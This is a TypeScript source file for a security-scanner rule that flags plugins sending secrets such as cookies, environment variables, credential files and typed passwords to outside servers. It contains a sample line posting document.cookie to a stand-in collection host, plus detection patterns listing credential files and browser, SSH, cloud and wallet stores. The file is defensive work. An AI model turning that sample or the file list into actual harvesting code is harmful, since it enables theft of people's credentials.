import { isDeclared } from '../access-manifest.ts';
import { destinationOf } from '../facts/destinations.ts';
import type { Severity } from '../finding.ts';
import { defineRule, type RuleContext } from '../rule.ts';
import { writtenKey } from '../syntax/node.ts';
import type { Flow } from '../taint/trace-flows.ts';
import type { SourceKind } from '../taint/source.ts';
import { isFarFetched, isPlugin } from './helpers.ts';

const LEAVING = new Set(['network', 'beacon', 'navigation', 'dns', 'message']);
const SAID: Partial<Record<SourceKind, string>> = {
  environment: 'Environment variables',
  file: 'The contents of files',
  cookie: 'Cookies',
  storage: "The browser's storage",
  clipboard: 'The clipboard',
  input: 'What a person types or shows',
  system: 'Details of the machine',
  page: "The page's contents",
};

export const secretToNetwork = defineRule({
  id: 'secret-to-network',
  severity: 'high',
  threat: 'exfiltration',
  title: 'Secrets leave for the network',
  why: 'Data that was never meant for this plugin is sent to a server outside.',
  fix: 'Do not read it. What the plugin needs it can ask for as a permission.',
  example: {
    bad: 'fetch("https://collect.example", { method: "POST", body: document.cookie });',
    good: 'fetch("/api/orders", { method: "POST", body: JSON.stringify(order) });',
  },
  cwe: 200,
  visit: {
    flow: (flow, context) => {
      const said = SAID[flow.source.kind];
      if (!said || !(LEAVING.has(flow.sink.kind) || isLoadingMarkup(flow))) return;
      const severity = severityOf(flow, context);
      const isFar = (severity === 'critical' || severity === 'high') && isFarFetched(flow, context);
      if (severity)
        context.report(flow.sink.node, {
          severity: isFar ? 'medium' : severity,
          confidence: isFar ? 'low' : 'high',
          flow,
          message: `${said} (${flow.source.label}) flow to ${flow.sink.name}.`,
        });
    },
  },
});

/** Markup that loads an address carries whatever is glued to that address. */
function isLoadingMarkup({ sink, steps }: Flow): boolean {
  if (sink.kind !== 'script') return false;
  return steps.some(({ node, file }) =>
    /(?:src|href|action|url\()\s*=?\s*\\?["']?(?:https?:)?\/\//i.test(
      file.text.slice(node.start, Math.min(node.end, node.start + 1000)),
    ),
  );
}

function severityOf(flow: Flow, context: RuleContext): Severity | null {
  const { source, sink } = flow;
  // In the page's own address it stands in every log and, as the referrer, goes to every server that is asked next.
  if (sink.name.startsWith('history.'))
    return source.kind !== 'cookie'
      ? null
      : /unsafe-url|\bImage\b|fetch\(/.test(context.file.text)
        ? 'high'
        : 'medium';
  if (sink.kind === 'message')
    return source.kind === 'cookie' || source.kind === 'storage' || source.kind === 'environment'
      ? 'high'
      : null;
  const destination = sink.destination
    ? destinationOf(sink.destination, context.file)
    : ({ kind: 'dynamic' } as const);
  const isRelative =
    destination.kind === 'relative' &&
    sink.kind !== 'dns' &&
    !/^(?:net|tls|dgram|WebSocket|RTC|http)/.test(sink.name);
  if (isRelative) return null;
  const isKnown = destination.kind === 'origin';
  const isAllowed =
    isKnown && context.manifest !== null && isDeclared(destination.url, context.manifest.origins);
  if (isLocal(destination)) return null;
  // Looking up the host one connects to tells nobody anything; names put together do.
  if (sink.kind === 'dns' && !isPlugin(context) && !isComposed(flow)) return 'low';
  const isWhole = /(?:^|\.)env$/.test(source.label) || source.label === 'Deno.env.toObject';
  switch (source.kind) {
    case 'environment':
      if (isWhole) return isAllowed ? 'high' : 'critical';
      // A key handed to the service it belongs to is what the variable is for.
      if (isCredential(flow)) return isPlugin(context) && !isAllowed ? 'medium' : isKnown ? null : 'low';
      return isPlugin(context) ? 'high' : isKnown ? 'high' : 'medium';
    case 'cookie':
      // Request libraries copy the token against forged requests from its cookie into a header.
      if (!isKnown && !isPlugin(context) && flow.steps.some(({ file }) => /[xc]srf/i.test(file.text)))
        return 'low';
      if (isCredential(flow) && !isKnown) return 'low';
      return isAllowed ? 'high' : 'critical';
    case 'file':
      // Mail has no address that could be known.
      if (sink.name === 'sendMail') return isSecretFile(flow) ? 'critical' : 'medium';
      return isSecretFile(flow) ? 'critical' : isPlugin(context) ? 'high' : isKnown ? 'medium' : 'low';
    case 'system':
      return isPlugin(context) || (isKnown && isPublic(destination)) || sink.kind === 'dns' ? 'high' : 'low';
    case 'page':
      return isAllowed
        ? 'low'
        : isKnown || isPlugin(context)
          ? // The words of one element are rarely all a person has.
            /^element/.test(source.label) && !isPlugin(context)
            ? 'medium'
            : 'high'
          : sink.kind === 'network'
            ? 'medium'
            : null;
    case 'input':
      return isAllowed
        ? 'low'
        : isPlugin(context)
          ? isKnown
            ? 'high'
            : 'medium'
          : isKnown && isCollected(flow)
            ? 'high'
            : 'low';
    case 'storage':
      if (isCredential(flow) && !isKnown) return 'low';
      return isAllowed ? 'medium' : isKnown ? 'high' : isPlugin(context) ? 'high' : 'medium';
    default:
      return isAllowed ? 'medium' : isKnown ? 'high' : isPlugin(context) ? 'high' : 'medium';
  }
}

/** Fields that ask for secrets, and listeners that wait for whatever is typed anywhere. */
const COLLECTS =
  /passw|\bcvv\b|card-?num|cc-(?:num|csc)|\biban\b|\bssn\b|\botp\b|seed ?phrase|mnemonic|querySelectorAll\(\s*['"`][^'"`]*(?:input|textarea|form)|\$\(\s*['"`](?:form|:?input|:password|textarea)['"`]|getElementsByTagName\(\s*['"`](?:input|textarea|form)|document\.forms|(?:document|window|body|documentElement|root)\.addEventListener\(\s*['"`](?:submit|input|change|blur|focusout)/i;

/** What a person types, taken where it was not meant for this program; the field of one's own search is not. */
function isCollected({ source, steps, sink }: Flow): boolean {
  return (
    // Nobody searches or subscribes by loading a picture.
    sink.kind === 'beacon' ||
    sink.name === 'Image' ||
    source.label.startsWith('npm:') ||
    /event|mediaDevices|credentials|geolocation/.test(source.label) ||
    COLLECTS.test(steps[0]?.file.text ?? '')
  );
}

/** Whether something on the way glues or encodes texts. */
function isComposed({ steps }: Flow): boolean {
  return steps.some(
    ({ node, file }) =>
      node.type === 'TemplateLiteral' ||
      (node.type === 'BinaryExpression' && node.operator === '+') ||
      (node.type === 'CallExpression' &&
        /(?:toString|join|concat|encode|btoa|slice|match|replace|stringify)\w*\(/.test(
          file.text.slice(node.start, Math.min(node.end, node.start + 400)),
        )),
  );
}

function isLocal(destination: ReturnType<typeof destinationOf>): boolean {
  return (
    destination.kind === 'origin' &&
    /^\w+:\/\/(?:localhost|127\.0\.0\.1|\[::1\]|kubernetes\.default(?:\.svc[\w.]*)?)(?::\d+)?$/.test(
      destination.origin,
    )
  );
}

function isPublic(destination: ReturnType<typeof destinationOf>): boolean {
  return destination.kind === 'origin' && destination.origin.includes('.');
}

function isCredential({ steps, sink }: Flow): boolean {
  if (
    steps.some(
      ({ node, file }) =>
        node.type === 'Property' &&
        /^['"]?(?:authorization|x-[\w-]*(?:key|token)|api-?key|auth|credentials|password|token)['"]?$/i.test(
          file.text.slice(node.key.start, node.key.end),
        ),
    )
  )
    return true;
  if (
    steps.some(
      ({ node, file }) =>
        node.type === 'CallExpression' &&
        /\.(?:setRequestHeader|set|setHeader)\(\s*['"]authorization/i.test(
          file.text.slice(node.start, node.end),
        ),
    )
  )
    return true;
  const isHeader = steps.some(({ node: { parent } }) => {
    const target = parent?.type === 'AssignmentExpression' ? parent.left : null;
    return (
      target?.type === 'MemberExpression' &&
      /^(?:authorization|x-[\w-]*(?:key|token)|api-?key)$/i.test(
        writtenKey(target.property, target.computed) ?? '',
      )
    );
  });
  return isHeader || sink.name.endsWith('#setRequestHeader');
}

const SECRET_FILE =
  /\/environ\b|\.ssh|\.npmrc|\.aws|\.env\b|id_rsa|credentials|\/etc\/(?:passwd|shadow)|\.kube|\.docker|Login Data|Cookies|wallet|\.gitconfig|\.netrc|keychain|leveldb|User Data|Local Storage|Local Extension Settings|tdata\b|key[34]\.db|logins\.json/i;

/** A pattern that picks files of secrets out of a folder. */
const PICKS_SECRETS =
  /\\\.\(?(?:\?:)?(?:[\w-]+\|)*(?:env|pem|key|kdbx|ppk|p12|pfx)\b|endsWith\(\s*['"`]\.(?:env|pem|key|kdbx|ppk)['"`]/;

function namesSecretFile(text: string): boolean {
  return text.length < 10_000 && SECRET_FILE.test(text) && /homedir|HOME\b|APPDATA|USERPROFILE/.test(text);
}

function isSecretFile({ source, steps }: Flow): boolean {
  const { node } = source;
  const file = steps[0]?.file;
  if (!file) return false;
  if (steps.some((step) => step.file !== file && namesSecretFile(step.file.text))) return true;
  if (file.text.length < 10_000 && PICKS_SECRETS.test(file.text)) return true;
  if (SECRET_FILE.test(file.text.slice(node.start, node.end))) return true;
  if (node.type !== 'CallExpression') return false;
  return node.arguments.some((argument) => {
    const value = file.evaluator.evaluate(argument);
    return (
      (value.kind === 'constant' && SECRET_FILE.test(String(value.value))) ||
      (value.kind === 'unknown' &&
        SECRET_FILE.test(file.text) &&
        /homedir|HOME\b|APPDATA|USERPROFILE/.test(file.text))
    );
  });
}
